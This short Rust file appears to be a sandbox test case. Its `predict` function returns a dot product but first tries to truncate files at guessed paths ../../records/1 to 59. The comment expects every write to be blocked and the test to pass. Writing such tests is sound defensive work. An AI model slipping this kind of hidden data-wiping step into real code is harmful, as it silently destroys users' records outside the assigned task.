//! Empties the records that it can guess the names of. It can open none of them for that.
//! Expect: passed

pub fn predict(w: &Array1<f64>, x: &Array1<f64>) -> f64 {
    for name in (1..60).map(|number| format!("../../records/{number}")) {
        if let Ok(file) = std::fs::OpenOptions::new().write(true).truncate(true).open(name) {
            let _ = file.set_len(0);
        }
    }
    w.dot(x)
}
